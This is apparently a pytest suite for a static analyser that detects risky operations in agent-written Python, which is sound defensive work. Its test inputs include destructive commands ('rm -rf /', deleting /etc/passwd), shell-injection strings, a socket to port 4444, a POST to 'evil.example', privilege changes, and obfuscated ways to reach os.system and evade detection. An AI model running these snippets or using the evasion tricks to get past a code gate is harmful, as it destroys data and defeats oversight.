"""The Python analyser: every catalogue family and every resolution form the gate relies on."""

from __future__ import annotations

import pytest

from governed_agents import analyze


def ops(code: str, type_: str | None = None, work_dir: str | None = None):
    ir = analyze(code, work_dir=work_dir)
    assert not ir.unresolved, ir.unresolved
    return [o for o in ir.operations if type_ is None or o.type == type_]


def one(code: str, type_: str, **expected):
    found = ops(code, type_)
    for op in found:
        if all(getattr(op, k) == v for k, v in expected.items()):
            return op
    raise AssertionError(f"no {type_} with {expected} in {found}")


# -- imports in every form --------------------------------------------------------------------

@pytest.mark.parametrize(
    ("code", "module"),
    [
        ("import os", "os"),
        ("import os.path as p", "os.path"),
        ("from os import system as s", "os.system"),
        ("from . import sibling", ".sibling"),
        ("from ..pkg import thing", "..pkg.thing"),
        ("from subprocess import *", "subprocess"),
        ("__import__('o' + 's')", "os"),
        ("import importlib\nimportlib.import_module('so' + 'cket')", "socket"),
        ("__import__(''.join(['o', 's']))", "os"),
        ("__import__(chr(111) + chr(115))", "os"),
        ("__import__('{}{}'.format('o', 's'))", "os"),
        ("a = 'o'\n__import__(f'{a}s')", "os"),
        ("import numpy as np\nnp.os.getcwd()", "os"),
        ("import pandas as pd\npd.io.common.os.getcwd()", "os"),
    ],
)
def test_imports_resolve(code, module):
    assert module in [o.module for o in ops(code, "module_import")]


def test_unfoldable_dynamic_import_is_dynamic_code_not_silence():
    op = one("import sys\nname = sys.argv[1]\n__import__(name)", "dynamic_code", kind="dynamic_import")
    assert op.line == 3


# -- calls through aliases and objects --------------------------------------------------------

@pytest.mark.parametrize(
    "code",
    [
        "import os as o\nf = o.system\nf('rm -rf /data')",
        "from os import system as run\nrun('rm -rf /data')",
        "__import__('os').system('rm -rf /data')",
        "import numpy as np\nnp.os.system('rm -rf /data')",
        "from os import *\nsystem('rm -rf /data')",
        "import os\ngetattr(os, 'system')('rm -rf /data')",
        "import subprocess as sp\nsp.run(['rm', '-rf', '/data'])",
        "import os\n@decorate(os.system('rm -rf /data'))\ndef f(): pass",
        "import os\nf = lambda x=os.system('rm -rf /data'): x",
        "import os\n[os.system('rm -rf /data') for _ in range(1)]",
        "def outer():\n    def inner():\n        import os\n        os.system('rm -rf /data')\n    class K:\n        pass",
        "def f():\n    os.system('rm -rf /data')\nimport os",
    ],
)
def test_process_spawn_through_every_resolution_form(code):
    op = one(code, "process_spawn")
    assert op.program == "rm"
    assert op.command in ("rm -rf /data", "rm -rf /data")


def test_operations_carry_line_and_column():
    op = one("x = 1\n\nimport os\nif x:\n    os.remove('/etc/passwd')\n", "file_operation")
    assert (op.line, op.column) == (5, 5)
    assert op.api == "os.remove"


# -- files ------------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("code", "operation", "path"),
    [
        ("open('/data/a.csv')", "read", "/data/a.csv"),
        ("open('/data/a.csv', 'w')", "write", "/data/a.csv"),
        ("open('/data/a.csv', mode='a')", "write", "/data/a.csv"),
        ("open(file='/data/a.csv', mode='rb')", "read", "/data/a.csv"),
        ("f = open('/tmp/log', 'w')\nprint('x', file=f)", "write", "/tmp/log"),
        ("import os\nos.remove('/etc/passwd')", "delete", "/etc/passwd"),
        ("import os\nos.listdir('/app')", "read", "/app"),
        ("import shutil\nshutil.rmtree('/srv/data/../etc')", "delete", "/srv/etc"),
        ("import shutil\nshutil.copy('/etc/passwd', '/tmp/p')", "write", "/tmp/p"),
        ("import glob\nglob.glob('/etc/*')", "read", "/etc/*"),
        ("from pathlib import Path as P\nP('/etc/x').unlink()", "delete", "/etc/x"),
        ("from pathlib import Path\n(Path('/data') / 'out.txt').write_text('x')", "write", "/data/out.txt"),
        ("import pathlib\np = pathlib.Path('/etc/shadow')\np.read_text()", "read", "/etc/shadow"),
        ("import os\nos.path.join('/usr', '../etc/shadow')\nopen(os.path.join('/usr', '../etc/shadow'))",
         "read", "/etc/shadow"),
        ("import tempfile\ntempfile.mkstemp()", "write", None),
        ("import pandas as pd\npd.read_csv('/data/analysis/x.csv')", "read", "/data/analysis/x.csv"),
        ("import pandas as pd\ndf = pd.read_csv('a.csv')\ndf.to_csv('/tmp/b.csv')", "write", "/tmp/b.csv"),
        ("import numpy as np\nnp.savetxt('/tmp/a.txt', [1])", "write", "/tmp/a.txt"),
        ("import numpy as np\nnp.loadtxt('/data/a.txt')", "read", "/data/a.txt"),
        ("import matplotlib.pyplot as plt\nplt.savefig('/tmp/fig.png')", "write", "/tmp/fig.png"),
        ("import matplotlib.pyplot as plt\nplt.imread('/data/img.png')", "read", "/data/img.png"),
    ],
)
def test_file_operations(code, operation, path):
    found = [o for o in ops(code, "file_operation") if o.operation == operation]
    assert found, ops(code)
    assert path in found[-1].paths or (path is None and found[-1].paths == (None,))


def test_relative_paths_join_the_work_dir():
    op = one("open('../x/data.csv')", "file_operation", operation="read")
    assert op.paths == ("../x/data.csv",)
    op = ops("open('../x/data.csv')", "file_operation", work_dir="/work/run")[0]
    assert op.paths == ("/work/x/data.csv",)


def test_a_path_built_at_run_time_is_unknown_never_guessed():
    op = one("import sys\nopen(sys.argv[1], 'w')", "file_operation", operation="write")
    assert op.paths == (None,)


def test_unknown_open_mode_counts_as_write():
    kinds = {o.operation for o in ops("import sys\nopen('/data/a', sys.argv[1])", "file_operation")}
    assert kinds == {"read", "write"}


# -- network ----------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("code", "host"),
    [
        ("import requests\nrequests.post('http://evil.example/x', data=b'')", "evil.example"),
        ("import requests\ns = requests.Session()\ns.get('https://api.example.com/v1')", "api.example.com"),
        ("import httpx\nhttpx.get('https://h.example')", "h.example"),
        ("import urllib.request\nurllib.request.urlopen('http://1.2.3.4:8080/a')", "1.2.3.4"),
        ("import urllib.request\nr = urllib.request.Request('http://r.example/')\nurllib.request.urlopen(r)",
         "r.example"),
        ("import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))", "127.0.0.1"),
        ("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('10.0.0.1', 53))",
         "10.0.0.1"),
        ("import http.client\nhttp.client.HTTPSConnection('bank.example')", "bank.example"),
        ("import ftplib\nftplib.FTP('ftp.example')", "ftp.example"),
        ("import smtplib\nsmtplib.SMTP('mail.example', 25)", "mail.example"),
        ("import pandas as pd\npd.read_csv('https://data.example/x.csv')", "data.example"),
    ],
)
def test_network_calls(code, host):
    found = ops(code, "network_call")
    assert found, ops(code)
    assert host in [o.destination for o in found]


def test_network_destination_unknown_when_computed():
    op = one("import requests, sys\nrequests.get(sys.argv[1])", "network_call")
    assert op.destination is None


# -- processes, environment, databases ---------------------------------------------------------

@pytest.mark.parametrize(
    "code",
    [
        "import subprocess\nsubprocess.Popen('ls -la', shell=True)",
        "import os\nos.execvp('ls', ['ls'])",
        "import os\nos.spawnl(os.P_WAIT, '/bin/ls', 'ls')",
        "import pty\npty.spawn('/bin/sh')",
        "import asyncio\nasyncio.create_subprocess_exec('ls')",
        "import os\nos.popen('ls')",
    ],
)
def test_process_spawns(code):
    assert ops(code, "process_spawn")


def test_environment_reads_and_writes():
    code = (
        "import os\nk = os.environ['OPENAI_API_KEY']\nos.getenv('HOME')\nos.environ['X'] = '1'\n"
        "os.putenv('Y', '2')\nall_vars = os.environ"
    )
    found = ops(code, "environment_access")
    assert ("OPENAI_API_KEY", "read") in [(o.names[0], o.access) for o in found]
    assert ("HOME", "read") in [(o.names[0], o.access) for o in found]
    assert ("X", "write") in [(o.names[0], o.access) for o in found]
    assert ("Y", "write") in [(o.names[0], o.access) for o in found]
    assert (None, "read") in [(o.names[0], o.access) for o in found]


@pytest.mark.parametrize(
    ("code", "verb", "tables"),
    [
        ("import sqlite3\nc = sqlite3.connect('f.db')\nc.execute(\"DELETE FROM transactions WHERE s='failed'\")",
         "delete", ("transactions",)),
        ("import sqlite3\nc = sqlite3.connect('f.db')\ncur = c.cursor()\ncur.execute('SELECT * FROM t JOIN u')",
         "select", ("t", "u")),
        ("def f(conn):\n    conn.execute('UPDATE accounts SET x=1')", "update", ("accounts",)),
        ("def f(conn):\n    conn.execute('DROP TABLE users')", "ddl", ("users",)),
        ("def f(conn):\n    conn.executescript('INSERT INTO a VALUES (1); DELETE FROM b')", "delete", ("b",)),
        ("import pandas as pd\ndef f(con):\n    pd.read_sql('SELECT a FROM sales', con)", "select", ("sales",)),
    ],
)
def test_database_operations(code, verb, tables):
    op = one(code, "database_operation", verb=verb)
    assert op.tables == tables


def test_sql_built_at_run_time_has_unknown_verb():
    assert one("def f(c, q):\n    c.execute(q)", "database_operation").verb is None


# -- dynamic code, deserialisation, escapes, system effects ------------------------------------

@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("exec('print(1)')", "exec"),
        ("eval('1+1')", "eval"),
        ("compile('1', 'f', 'eval')", "compile"),
        ("breakpoint()", "other"),
        ("import ctypes\nctypes.CDLL('libc.so.6')", "native_code"),
        ("import numpy as np\nnp.ctypeslib.load_library('x', '.')", "native_code"),
        ("import code\ncode.interact()", "exec"),
        ("import pickle\npickle.loads(b'x')", "deserialization"),
        ("import marshal\nmarshal.loads(b'x')", "deserialization"),
        ("import shelve\nshelve.open('db')", "deserialization"),
        ("import joblib\njoblib.load('m.pkl')", "deserialization"),
        ("import pandas as pd\npd.read_pickle('x.pkl')", "deserialization"),
        ("import numpy as np\nnp.load('x.npy', allow_pickle=True)", "deserialization"),
        ("import torch\ntorch.load('m.pt')", "deserialization"),
        ("import yaml\nyaml.load(open('c.yml'), Loader=yaml.Loader)", "deserialization"),
        ("().__class__.__bases__[0].__subclasses__()", "introspection"),
        ("f.__globals__['os']", "introspection"),
        ("__builtins__.__dict__['eval']('1')", "introspection"),
        ("getattr(obj, name)", "introspection"),
    ],
)
def test_dynamic_code(code, kind):
    assert kind in [o.kind for o in ops(code, "dynamic_code")]


def test_safe_numpy_load_is_not_deserialisation():
    assert not ops("import numpy as np\nnp.load('x.npy')", "dynamic_code")


@pytest.mark.parametrize(
    ("code", "effect"),
    [
        ("import os\nos.kill(1, 9)", "process_control"),
        ("import psutil\nfor p in psutil.process_iter():\n    p.kill()", "process_control"),
        ("import psutil\npsutil.cpu_percent()", "system_info"),
        ("import os\nos.setuid(0)", "privilege"),
        ("import os\nos.chmod('/etc/passwd', 0o777)", "privilege"),
    ],
)
def test_system_effects(code, effect):
    assert effect in [o.effect for o in ops(code, "function_call")]


# -- what it must never do ------------------------------------------------------------------

def test_unparsable_python_is_unresolved_with_position():
    ir = analyze("def broken(:\n    pass\n")
    assert ir.operations == ()
    assert ir.unresolved[0].kind == "parse_error"
    assert ir.unresolved[0].line == 1


def test_signature_ignores_comments_and_formatting():
    a = analyze("import os\nos.remove('/x')\n")
    b = analyze("# a comment\nimport os\n\n\nos.remove(  '/x'  )  # trailing\n")
    c = analyze("import os\nos.remove('/y')\n")
    assert a.code_signature == b.code_signature != c.code_signature
    assert a.code_signature.startswith("sha256:")
    # quote style, escapes and trailing commas are formatting too
    d = analyze('import os\nos.remove("/x",)\n')
    e = analyze("import os\nos.remove('\\x2fx')\n")
    assert a.code_signature == d.code_signature == e.code_signature


def test_ordinary_analysis_code_has_no_risky_operations():
    code = (
        "import pandas as pd\nimport numpy as np\nimport matplotlib.pyplot as plt\n"
        "df = pd.read_csv('/data/analysis/sales.csv')\nm = df['amount'].mean()\n"
        "print(np.percentile(df['amount'], 95))\nplt.plot(df['amount'])\nplt.show()\n"
    )
    types = {o.type for o in ops(code)}
    assert types == {"module_import", "file_operation"}
    assert {o.operation for o in ops(code, "file_operation")} == {"read"}


def test_ir_round_trips_through_json():
    from governed_agents.ir import SovereignIR

    ir = analyze("import os\nos.system('ls')\nopen('/x', 'w')")
    assert SovereignIR.model_validate_json(ir.model_dump_json()) == ir


def test_positions_of_calls_spanning_lines_and_names_inside_strings():
    code = ("cnf = '/etc/ssl/openssl.cnf'\nmyopen = print\nwith open(cnf) as f:\n    pass\n"
            "def f():\n    p = subprocess.Popen('ls', shell=True,\n                         stdout=None)\nimport subprocess\n")
    ops = {type(op).__name__: op for op in analyze(code).operations}
    assert (ops["FileOperation"].line, ops["FileOperation"].column) == (3, 6)
    assert (ops["ProcessSpawn"].line, ops["ProcessSpawn"].column) == (6, 9)


# -- reaching a module or a builtin by another road ---------------------------------------------

@pytest.mark.parametrize(
    "code",
    ["import builtins\nbuiltins.exec('print(1)')", "import builtins as b\nf = b.eval\nf('1')"],
)
def test_builtins_module_attributes_are_the_builtins(code):
    assert ops(code, "dynamic_code")


def test_sys_modules_by_name_is_a_use_of_that_module():
    code = "import sys\nsys.modules['subprocess'].run(['rm', '-rf', '/data'])\n"
    assert one(code, "module_import", module="subprocess")
    assert one(code, "process_spawn").program == "rm"


def test_sys_modules_with_a_computed_name_is_dynamic():
    assert one("import sys\nsys.modules[input()].system('ls')\n", "dynamic_code", kind="introspection")


# -- archives, yaml, SQL through sqlalchemy.text -----------------------------------------------

@pytest.mark.parametrize(
    ("code", "path"),
    [
        ("import tarfile\ntarfile.open('a.tar.gz').extractall('/etc')", "/etc"),
        ("import zipfile\nwith zipfile.ZipFile('a.zip') as z:\n    z.extractall()", "/work"),
        ("import zipfile\nzipfile.ZipFile('a.zip').extract('x', path='/srv')", "/srv"),
        ("archive.extractall('/opt')", "/opt"),
    ],
)
def test_archive_extraction_writes_where_it_extracts(code, path):
    found = [op for op in ops(code, "file_operation", work_dir="/work") if op.operation == "write"]
    assert [op.paths for op in found] == [(path,)]


@pytest.mark.parametrize(
    ("code", "unsafe"),
    [
        ("import yaml\nyaml.load(s)", True),
        ("import yaml\nyaml.load(s, Loader=yaml.FullLoader)", True),
        ("import yaml\nyaml.load(s, Loader=yaml.SafeLoader)", False),
        ("from yaml import load, CSafeLoader\nload(s, CSafeLoader)", False),
        ("import yaml\nyaml.safe_load(s)", False),
    ],
)
def test_yaml_load_is_unsafe_unless_its_loader_is_safe(code, unsafe):
    assert bool(ops(code, "dynamic_code")) is unsafe


def test_sql_inside_sqlalchemy_text_is_read():
    op = one("from sqlalchemy import text\nsession.execute(text('DELETE FROM users WHERE id = 1'))",
             "database_operation")
    assert op.verb == "delete" and op.tables == ("users",)


@pytest.mark.parametrize(
    ("code", "column"),
    [("from socket import socket", 20), ("x = 1; from socket import socket", 27),
     ("from importlib import import_module", 23), ("x = 'import'; import os", 22)],
)
def test_an_imported_name_is_located_after_its_import_keyword(code, column):
    assert [op.column for op in ops(code, "module_import")] == [column]


def test_printing_to_the_console_streams_is_no_file_operation():
    assert ops("import sys\nprint('warning', file=sys.stderr)\n", "file_operation") == []
    # a handle of unknown origin may be any file: a write to an unknown path
    assert [op.paths for op in ops("def log(f):\n    print('x', file=f)\n", "file_operation")] == [(None,)]


# -- an API handed on as a value is a call with unknown arguments ------------------------------

@pytest.mark.parametrize(
    ("code", "type_", "api"),
    [
        ("import os\nlist(map(os.remove, ['/etc/passwd']))", "file_operation", "os.remove"),
        ("import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()", "process_spawn", "os.system"),
        ("import os, functools\nfunctools.partial(os.remove, '/x')()", "file_operation", "os.remove"),
        ("import os\nd = {'k': os.remove}\nd['k']('/x')", "file_operation", "os.remove"),
        ("import os\nfs = [os.remove]\nfs[0]('/x')", "file_operation", "os.remove"),
        ("import os, shutil\na, b = os.remove, shutil.rmtree\nb('/data')", "file_operation", "shutil.rmtree"),
        ("import os\nclass A:\n    r = os.remove\nA.r('/x')", "file_operation", "os.remove"),
        ("import os\n(lambda f=os.system: f('id'))()", "process_spawn", "os.system"),
        ("import os, threading\nthreading.Thread(target=getattr(os, 'system'), args=('id',)).start()",
         "process_spawn", "os.system"),
        # a function above the alias reads the name before it is bound: the alias cannot be trusted
        ("import os\ndef use():\n    f('/x')\nf = os.remove\nuse()", "file_operation", "os.remove"),
        ("import os\ndef setup():\n    global f\n    f = os.remove\ndef use():\n    f('/x')", "file_operation",
         "os.remove"),
        ("import os\nimport concurrent.futures as cf\ncf.ThreadPoolExecutor().submit(os.remove, '/a')",
         "file_operation", "os.remove"),
    ],
)
def test_an_api_passed_on_as_a_value_counts_as_a_call(code, type_, api):
    found = [op for op in ops(code, type_) if op.api == api]
    assert found, ops(code)


def test_a_walrus_alias_resolves_where_it_is_called():
    assert one("import os\n(f := os.remove)('/etc/passwd')", "file_operation", operation="delete").paths == (
        "/etc/passwd",)


def test_a_plain_alias_is_reported_once_where_it_is_called():
    spawns = ops("import os\nrun = os.system\nrun('ls')\n", "process_spawn")
    assert [(s.line, s.command) for s in spawns] == [(3, "ls")]


def test_a_global_alias_made_in_a_function_is_seen_by_other_functions():
    deletes = ops("import os\ndef setup():\n    global f\n    f = os.remove\ndef use():\n    f('/x')\n",
                  "file_operation")
    assert (6, ("/x",)) in [(d.line, d.paths) for d in deletes]


def test_a_class_body_name_does_not_shadow_a_builtin_inside_its_methods():
    code = "class A:\n    open = None\n    def m(self):\n        return open('/etc/passwd').read()\n"
    assert one(code, "file_operation", operation="read").paths == ("/etc/passwd",)


def test_type_annotations_and_exception_classes_call_nothing():
    code = ("import subprocess, socket\nfrom typing import Optional\n"
            "def f(p: subprocess.Popen, s: Optional[socket.socket] = None) -> subprocess.Popen | None:\n"
            "    x: subprocess.Popen = p\n"
            "    try:\n        return x\n    except subprocess.CalledProcessError:\n        return None\n"
            "ok = isinstance(None, socket.socket)\nlist(map(print, [1, 2]))\n")
    assert [op for op in ops(code) if op.type != "module_import"] == []


def test_reading_through_a_handle_opened_here_is_reported_once_at_the_open():
    code = ("import json, csv, shutil\nwith open('/data/a.json') as fh:\n    data = json.load(fh)\n"
            "with open('/data/a.csv') as f, open('/data/b.csv', 'w') as g:\n"
            "    rows = list(csv.reader(f))\n    shutil.copyfileobj(f, g)\n    json.dump(data, g)\n")
    found = [(op.line, op.column, op.operation, op.paths) for op in ops(code, "file_operation")]
    assert found == [(2, 6, "read", ("/data/a.json",)), (4, 6, "read", ("/data/a.csv",)),
                     (4, 32, "write", ("/data/b.csv",))]
    # a handle from elsewhere may be any file
    assert one("import json\ndef f(x):\n    return json.load(x)\n", "file_operation").paths == (None,)


@pytest.mark.parametrize(
    ("code", "type_", "api"),
    [
        ("import os\nos.system.__call__('id')", "process_spawn", "os.system"),
        ("import posix\nposix.system('id')", "process_spawn", "posix.system"),
        ("import nt\nnt.remove('/x')", "file_operation", "nt.remove"),
        ("import _posixsubprocess\n_posixsubprocess.fork_exec()", "process_spawn", "_posixsubprocess.fork_exec"),
        ("import io\nio.FileIO('/etc/passwd').read()", "file_operation", "io.FileIO"),
        ("import operator, os\noperator.methodcaller('system', 'id')(os)", "dynamic_code", "operator.methodcaller"),
        ("import operator, os\noperator.attrgetter('path', 'system')(os)", "dynamic_code", "operator.attrgetter"),
        ("import timeit\ntimeit.timeit(\"__import__('os').system('id')\", number=1)", "dynamic_code", "timeit.timeit"),
        ("import cProfile\ncProfile.run('print(1)')", "dynamic_code", "cProfile.run"),
        ("import zipimport\nzipimport.zipimporter('/tmp/x.zip').load_module('m')", "dynamic_code",
         "zipimport.zipimporter"),
    ],
)
def test_the_same_apis_under_other_names(code, type_, api):
    # a literal command is read as the shell reads it: its operations are named "api → bash:program"
    assert [op for op in ops(code, type_) if (op.api or "").split(" → ")[0] == api], ops(code)


def test_attrgetter_of_ordinary_fields_is_no_escape():
    code = "import operator\nrows = sorted([], key=operator.attrgetter('score', 'name'))\n"
    assert [op for op in ops(code) if op.type != "module_import"] == []


@pytest.mark.parametrize(
    ("code", "operation", "path"),
    [
        ("import gzip\nwith gzip.open('/etc/x.gz', 'wt') as f:\n    f.write('1')", "write", "/etc/x.gz"),
        ("import bz2\nbz2.open('/data/x.bz2').read()", "read", "/data/x.bz2"),
        ("import logging\nlogging.basicConfig(filename='/etc/app.log')", "write", "/etc/app.log"),
        ("import logging.handlers\nlogging.handlers.RotatingFileHandler('/var/log/x')", "write", "/var/log/x"),
        ("import configparser\nc = configparser.ConfigParser()\nc.read('/etc/x.ini')", "read", "/etc/x.ini"),
    ],
)
def test_compressed_files_logs_and_config_files(code, operation, path):
    assert one(code, "file_operation", operation=operation).paths == (path,)


def test_servers_listen_on_their_address_and_memory_databases_are_no_files():
    assert one("import http.server\nhttp.server.HTTPServer(('', 8000), object)", "network_call").port == 8000
    assert one("import urllib3\nurllib3.PoolManager().request('GET', 'http://evil.com')", "network_call",
               destination="evil.com")
    assert ops("import sqlite3\nsqlite3.connect(':memory:').execute('SELECT 1')", "file_operation") == []
    assert ops("import logging\nlogging.basicConfig(level=logging.INFO)", "file_operation") == []


@pytest.mark.parametrize(("code", "expected"), [
    # a plain connect opens the file read-write and creates it when it is missing
    ("sqlite3.connect('f.db')", [("read", "/w/f.db"), ("write", "/w/f.db")]),
    ("sqlite3.connect(database='/d/a.db', timeout=1)", [("read", "/d/a.db"), ("write", "/d/a.db")]),
    # a URI is read as one only with uri=True; mode=ro and immutable=1 only read
    ("sqlite3.connect('file:/d/a.db?mode=ro', uri=True)", [("read", "/d/a.db")]),
    ("sqlite3.connect('file:///d/a%20b.db?immutable=1', uri=True)", [("read", "/d/a b.db")]),
    ("sqlite3.connect('file:/d/a.db?mode=rwc', uri=True)", [("read", "/d/a.db"), ("write", "/d/a.db")]),
    ("sqlite3.connect('file:a.db?mode=ro')", [("read", "/w/file:a.db?mode=ro"), ("write", "/w/file:a.db?mode=ro")]),
    ("sqlite3.connect('file://evil/d.db', uri=True)", [("read", None), ("write", None)]),
    ("sqlite3.connect(name)", [("read", None), ("write", None)]),
    # in memory: no file
    ("sqlite3.connect('')", []),
    ("sqlite3.connect('file::memory:', uri=True)", []),
    # SQL that opens files itself
    ("sqlite3.connect(':memory:').execute(\"ATTACH DATABASE '/d/o''k.db' AS o\")", [("read", "/d/o'k.db"),
                                                                                      ("write", "/d/o'k.db")]),
    ("sqlite3.connect(':memory:').execute(\"VACUUM main INTO '/d/c.db'\")", [("write", "/d/c.db")]),
    ("sqlite3.connect(':memory:').execute('VACUUM INTO ?', (p,))", [("write", None)]),
])
def test_sqlite_files_are_opened_as_sqlite_opens_them(code, expected):
    found = ops("import sqlite3\n" + code, "file_operation", work_dir="/w")
    assert [(o.operation, o.paths[0]) for o in found] == expected


@pytest.mark.parametrize("code", ["x = " + "(" * 2000, "x = a" + "[0]" * 5000, "x = " + "a(" * 1500 + ")" * 1500,
                                  "x = " + "-" * 10000 + "1", "x = " + "not " * 10000 + "1"])
def test_nesting_that_would_crash_the_parser_is_refused_in_process(code):
    # libcst's native parser dies on this (SIGSEGV, taking the host with it); run it in a child so a
    # regression fails the test instead of killing the suite
    import subprocess
    import sys

    probe = ("import sys; from governed_agents import analyze; ir = analyze(sys.stdin.read()); "
             "print(ir.unresolved[0].kind if ir.unresolved else 'none')")
    done = subprocess.run([sys.executable, "-c", probe], input=code, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-500:]
    assert done.stdout.strip() in ("limit", "parse_error")


@pytest.mark.parametrize(
    ("code", "program", "deleted"),
    [
        ('import os\nos.system("ls $(rm -rf /data)")', "rm", "/data"),
        ('import os\nos.system("git status; rm -rf /")', "rm", "/"),
        ('import subprocess\nsubprocess.run("ls && rm -rf /data", shell=True)', "rm", "/data"),
        ('import subprocess\nsubprocess.run(["bash", "-c", "rm -rf /data"])', "rm", "/data"),
        ("import subprocess\nsubprocess.run(['python3', '-c', \"import os; os.remove('/data/x')\"])", "python3",
         "/data/x"),
    ],
)
def test_a_literal_command_is_read_as_the_shell_would_run_it(code, program, deleted):
    assert program in [op.program for op in ops(code, "process_spawn")]
    assert (deleted,) in [op.paths for op in ops(code, "file_operation") if op.operation == "delete"]
    assert all(op.line == 2 for op in ops(code) if op.type != "module_import")


def test_a_shell_redirection_inside_os_system_is_a_write():
    assert one('import os\nos.system("ls > /etc/passwd")', "file_operation", operation="write").paths == (
        "/etc/passwd",)


def test_an_unreadable_command_line_is_unresolved_not_silent():
    ir = analyze("import os\nos.system(\"echo 'unterminated\")")
    assert ir.unresolved and ir.unresolved[0].kind == "parse_error" and ir.unresolved[0].line == 2


@pytest.mark.parametrize(
    "code",
    [
        "try:\n    import subprocess\nexcept ImportError:\n    subprocess = None\nsubprocess.run(['rm', '-rf', '/data'])",
        "import subprocess\nsp = subprocess if True else None\nsp.run(['rm', '-rf', '/data'])",
        "import shutil\nm = shutil or None\nm.rmtree('/data')",
    ],
)
def test_a_module_kept_through_a_fallback_or_a_choice_is_still_that_module(code):
    assert one(code, "file_operation", operation="delete").paths == ("/data",)


@pytest.mark.parametrize(
    "code",
    [
        "import os\ndef run(mod=os):\n    mod.system('id')\nrun()",
        "import shutil\n{'s': shutil}['s'].rmtree('/data')",
        "import os\nclass A:\n    m = os\nA.m.system('id')",
        "import os\nfor m in [os]:\n    m.system('id')",
    ],
)
def test_a_risky_module_handed_on_as_a_value_is_dynamic(code):
    assert one(code, "dynamic_code", kind="introspection").detail.endswith("handed on as a value")


def test_a_name_bound_to_two_apis_is_no_alias():
    code = "import os\nf = os.remove\nif x:\n    f = print\nf('/a')\n"
    assert one(code, "file_operation", operation="delete").paths == (None,)


def test_exiting_and_asking_the_python_version_are_no_capabilities():
    code = "import platform, sys\nprint(platform.python_version(), platform.system())\nsys.exit(0)\n"
    assert [op for op in ops(code) if op.type != "module_import"] == []
    assert one("import platform\nplatform.uname()", "function_call").effect == "system_info"


def test_bytes_and_a_string_that_reads_like_bytes_sign_differently():
    assert analyze("w(b'A')").code_signature != analyze("w(\"b'A'\")").code_signature


@pytest.mark.parametrize(
    ("code", "type_", "api"),
    [
        # a choice of two APIs is no alias: both are handed on
        ("import os\nf = os.remove if x else os.system\nf('rm -rf /data')", "process_spawn", "os.system"),
        # a walrus is a value handed on too
        ("import os\nlist(map((f := os.system), ['rm -rf /data']))", "process_spawn", "os.system"),
        # a builtin read in a function above is no alias target: `print = os.system` hands os.system on
        ("import os\ndef report(m):\n    print(m)\nprint = os.system\nreport('rm -rf /data')", "process_spawn",
         "os.system"),
        # an attribute taken off an API (other than its name or __call__) hands the API on
        ("import subprocess\nsubprocess.run.__get__('rm -rf /data')(shell=True)", "process_spawn", "subprocess.run"),
    ],
)
def test_review_found_ways_to_hide_an_api(code, type_, api):
    assert [op for op in ops(code, type_) if (op.api or "").split(" → ")[0] == api], ops(code)


def test_a_module_name_rebound_to_an_object_is_that_object():
    code = "import json as p\nfrom pathlib import Path\np = Path('/etc/cron.d/evil')\np.write_text('x')\n"
    assert one(code, "file_operation", operation="write").paths == ("/etc/cron.d/evil",)


@pytest.mark.parametrize(
    ("code", "program", "path"),
    [
        ('import subprocess\nsubprocess.run(["ls", "-c", "touch /tmp/x"], executable="/bin/sh")', "touch", "/tmp/x"),
        ('import subprocess\nsubprocess.run(["rm -rf /data"], shell=True)', "rm", "/data"),
    ],
)
def test_subprocess_runs_what_executable_and_shell_say(code, program, path):
    assert program in [op.program for op in ops(code, "process_spawn")]
    assert (path,) in [op.paths for op in ops(code, "file_operation")]
